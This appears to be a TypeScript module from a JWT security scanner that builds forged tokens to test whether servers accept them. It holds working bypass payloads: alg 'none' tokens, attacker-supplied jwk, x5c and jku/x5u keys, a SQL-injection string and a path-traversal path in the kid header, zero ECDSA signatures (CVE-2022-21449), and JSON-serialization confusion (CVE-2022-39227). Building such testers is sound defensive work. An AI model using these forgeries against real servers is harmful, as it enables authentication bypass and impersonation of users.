/** Tokens that anybody can write who has seen a valid one: its claims, under a header and a signature of the writer's own. */
import { createHmac, generateKeyPairSync, type KeyObject, sign, X509Certificate } from 'node:crypto';
import type { MadeToken } from '../model/probe.ts';
import { selfSigned } from './certificate.ts';
import { jwtFacts, tokenKind } from './inspect.ts';
import { edit, segmentOf } from './segments.ts';

/** What stands before and after the claims. */
export interface SelfMade {
  readonly before: string;
  readonly after: string;
  /** In the place of the token's own claims, which are left as they are otherwise. */
  readonly claims?: string;
  /** The same with claims that no server may take: where it gets in as well, the others were not read either. */
  readonly twin?: SelfMade;
  /** True when `after` was computed over the claims, and so says something of them. */
  readonly isSigned: boolean;
  /** What tells it from the other spellings of its idea. */
  readonly label?: string;
}

/** An empty file on every Unix, wherever a server looks for its keys. */
const EMPTY_FILE = '../../../../../../../../dev/null';
const CURVES: Readonly<Record<string, string>> = { ES256: 'P-256', ES384: 'P-384', ES512: 'P-521' };
/** What a database answers to the name below, and so the secret. */
const QUERY_SECRET = 'unlatched';
/** A look-up that is put together from text becomes one of this word; nothing is changed by it. */
const QUERY = `x' UNION SELECT '${QUERY_SECRET}'-- `;
/** Octets of each half of a signature (RFC 7518 section 3.4). */
const HALF: Readonly<Record<string, number>> = { ES256: 32, ES384: 48, ES512: 66 };

/** A file that everybody can read, and the names by which a server may open it in the place of a key. */
export interface PublicFile {
  readonly bytes: Buffer;
  /** Whether some of them lead to the file from wherever code looks for its keys. */
  readonly fromAnywhere: boolean;
  readonly names: readonly { readonly name: string; readonly label: string }[];
}

/**
 * @param token the valid token
 * @param keyAddress where the files of `keyFiles` can be fetched; null where nobody can
 * @param file one of the server's; null where none is known
 * @returns each spelling; none for an opaque token, and for what takes more than the token or does not go with its algorithm
 */
export function selfMade(
  token: string,
  made: MadeToken,
  keyAddress: string | null = null,
  file: PublicFile | null = null,
): readonly SelfMade[] {
  if (tokenKind(token) !== 'jwt') return [];
  const { alg } = jwtFacts(token)!;
  switch (made.signed) {
    case 'nobody':
      if (made.form === 'json') return [...asJson(), besideSigned(token)];
      if (made.form !== undefined) return [];
      // RFC 7519 section 6.1
      return [unsigned(made.algorithm === 'missing' ? { typ: 'JWT' } : { alg: 'none', typ: 'JWT' }, '')];
    case 'sender':
      return [withOwnKey(token, alg, (key) => ({ jwk: key.publicKey.export({ format: 'jwk' }) }))];
    case 'sender-certificate':
      return [withOwnKey(token, alg, (key) => ({ x5c: [selfSigned(key.privateKey).toString('base64')] }))];
    case 'sender-address':
      return keyAddress === null
        ? []
        : Object.entries(ADDRESSES).map(([name, file]) => ({
            ...withOwnKey(token, alg, () => ({ kid: KEY_NAME, [name]: `${keyAddress}/${file}` })),
            label: name,
          }));
    case 'query':
      return [withSecret(token, QUERY_SECRET, { kid: QUERY })];
    case 'empty-file':
      return [withEmptySecret(token, { kid: EMPTY_FILE })];
    case 'public-file':
      return (file?.names ?? []).map(({ name, label }) => {
        // Where other bytes open as well, it is not the file that was read.
        const twin = {
          ...withSecret(token, Buffer.concat([file!.bytes, Buffer.from('x')]), { kid: name }),
          label: `other bytes for ${label}`,
        };
        return { ...withSecret(token, file!.bytes, { kid: name }), label, twin };
      });
    case 'blank':
      return alg.startsWith('HS') ? [withEmptySecret(token, {})] : zeros(alg);
    default:
      return [];
  }
}

/** Why no such token can be made of this one, or null. */
export function whyNotSelfMade(token: string, made: MadeToken): string | null {
  const { alg } = jwtFacts(token)!;
  if (made.signed === 'sender-address') return 'only a server on this machine is given an address of this machine';
  if (made.signed === 'public-file') return 'no file is known that the server hands out to everybody';
  return made.signed === 'blank' && selfMade(token, made).length === 0
    ? `neither a secret nor two numbers make a signature of ${alg}`
    : null;
}

/** HMAC fills short secrets up with zeros, so one of zero bytes is the same as none (RFC 2104 section 2). */
function withEmptySecret(token: string, more: object): SelfMade {
  return withSecret(token, '', more);
}

function withSecret(token: string, secret: string | Buffer, more: object): SelfMade {
  return signedBy({ alg: 'HS256', typ: 'JWT', ...more }, token, (text) => createHmac('sha256', secret).update(text).digest());
}

/** Two zeros satisfy the equation of ECDSA for every key and text, where the range of the numbers is not looked at (CVE-2022-21449). */
function zeros(alg: string): readonly SelfMade[] {
  const half = HALF[alg];
  if (half === undefined) return [];
  const header = { alg, typ: 'JWT' };
  return [
    { ...unsigned(header, Buffer.alloc(2 * half).toString('base64url')), label: 'zeros' },
    { ...unsigned(header, Buffer.from('3006020100020100', 'hex').toString('base64url')), label: 'zeros as DER' },
  ];
}

/** The general form with no signature in its list, and the flattened one of the algorithm none (RFC 7515 section 7.2). */
function asJson(): readonly SelfMade[] {
  const isSigned = false;
  return [
    { before: '{"payload":"', after: '","signatures":[]}', isSigned, label: 'an empty list of signatures' },
    {
      before: '{"payload":"',
      after: `","protected":"${segmentOf({ alg: 'none' })}","signature":""}`,
      isSigned,
      label: 'an empty signature',
    },
  ];
}

/**
 * Claims of the sender in the name of a member that nobody knows, beside the signed token in its flattened form: code that verifies the
 * JSON and then cuts the text at its dots reads claims that nobody signed (CVE-2022-39227). Where the signed claims are read it is a good
 * token, in another form; a twin whose end has passed tells.
 */
function besideSigned(token: string): SelfMade {
  const [head, body, signature] = token.split('.') as [string, string, string];
  const parts = {
    before: `{"  ${head}.`,
    after: `.":"","protected":"${head}","payload":"${body}","signature":"${signature}"}`,
    isSigned: true,
    label: 'claims beside the signed ones',
  };
  const twin = { ...parts, label: 'ended claims beside the signed ones', claims: edit(body, (claims) => void claims.set('exp', '1')) };
  return { ...parts, claims: edit(body, (claims) => void claims.set('unlatched', 'true')), twin };
}

/** A key of the sender, of the kind that the valid token is signed with; `describe` writes it into the header (RFC 7515 sections 4.1.3 and 4.1.6). */
function withOwnKey(token: string, alg: string, describe: (pair: KeyPair) => object): SelfMade {
  const ownAlg = ownAlgorithm(alg);
  const pair = ownKeys(CURVES[ownAlg] ?? 'rsa');
  return signedBy({ alg: ownAlg, typ: 'JWT', ...describe(pair) }, token, (text) => signatureOf(text, ownAlg, pair.privateKey));
}

function ownAlgorithm(alg: string): string {
  return CURVES[alg] || alg.startsWith('RS') ? alg : 'RS256';
}

/** Header parameters that hold an address (RFC 7515 sections 4.1.2 and 4.1.5), and the file that lies there. */
const ADDRESSES = { jku: 'keys.json', x5u: 'chain.pem' } as const;
const KEY_NAME = 'unlatched';

/** The sender's public key as the files that `jku` and `x5u` lead to, by name. */
export function keyFiles(token: string): Readonly<Record<string, string>> {
  const alg = ownAlgorithm(jwtFacts(token)!.alg);
  const { publicKey, privateKey } = ownKeys(CURVES[alg] ?? 'rsa');
  const key = { ...publicKey.export({ format: 'jwk' }), kid: KEY_NAME, alg, use: 'sig' };
  return { [ADDRESSES.jku]: JSON.stringify({ keys: [key] }), [ADDRESSES.x5u]: new X509Certificate(selfSigned(privateKey)).toString() };
}

/** The sender's public key, of the kind that the token is signed with where that is RSA or a curve of RFC 7518. */
export function senderKey(token: string): KeyObject {
  return ownKeys(CURVES[ownAlgorithm(jwtFacts(token)!.alg)] ?? 'rsa').publicKey;
}

interface KeyPair {
  readonly publicKey: KeyObject;
  readonly privateKey: KeyObject;
}

const pairs = new Map<string, KeyPair>();

/** Made when first needed, once for the process: RSA keys take time. */
function ownKeys(kind: string): KeyPair {
  const pair =
    pairs.get(kind) ??
    (kind === 'rsa' ? generateKeyPairSync('rsa', { modulusLength: 2048 }) : generateKeyPairSync('ec', { namedCurve: kind }));
  pairs.set(kind, pair);
  return pair;
}

function signatureOf(text: string, alg: string, key: KeyObject): Buffer {
  return sign(`sha${alg.slice(2)}`, Buffer.from(text), { key, dsaEncoding: 'ieee-p1363' });
}

function unsigned(fields: object, signature: string): SelfMade {
  return { before: `${segmentOf(fields)}.`, after: `.${signature}`, isSigned: false };
}

function signedBy(fields: object, token: string, makeSignature: (text: string) => Buffer): SelfMade {
  const header = segmentOf(fields);
  const signature = makeSignature(`${header}.${token.split('.')[1]}`).toString('base64url');
  return { before: `${header}.`, after: `.${signature}`, isSigned: true };
}
